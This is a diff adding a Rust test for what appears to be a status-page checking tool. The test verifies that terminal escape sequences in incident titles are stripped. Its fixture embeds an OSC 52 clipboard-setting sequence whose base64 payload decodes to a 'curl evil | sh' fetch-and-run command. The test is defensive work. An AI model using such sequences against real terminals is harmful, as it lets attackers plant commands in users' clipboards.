@@ -56,6 +56,40 @@ async fn check_json_has_the_promised_shape() {
 }
 
 #[tokio::test]
+async fn page_text_reaches_the_terminal_without_escape_sequences() {
+    let server = FakeServer::start().await;
+    let page = server.url();
+    // Clears the screen, then sets the clipboard (OSC 52) to a command.
+    let incident = FakeIncident {
+        id: "inc-esc",
+        title:
+            "\u{1b}[2JErrors\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7} for \u{9b}31msome\u{1b}[0m users",
+        status: "investigating",
+        impact: "major",
+    };
+    server.set(SUMMARY_PATH, Reply::json(summary(&page, &[incident])));
+    let human = check(&[&page]).await;
+    assert!(human.status.success(), "{}", stderr(&human));
+    let json = check(&[&page, "--json"]).await;
+    for out in [&human, &json] {
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "a control character reached the terminal: {text:?}"
+        );
+    }
+    assert!(
+        String::from_utf8_lossy(&human.stdout).contains("Errors for some users"),
+        "{}",
+        String::from_utf8_lossy(&human.stdout)
+    );
+    assert_eq!(
+        stdout_json(&json)["incidents"][0]["title"],
+        "Errors for some users"
+    );
+}
+
+#[tokio::test]
 async fn a_page_that_contradicts_itself_shows_both_words() {
     let server = FakeServer::start().await;
     let page = server.url();
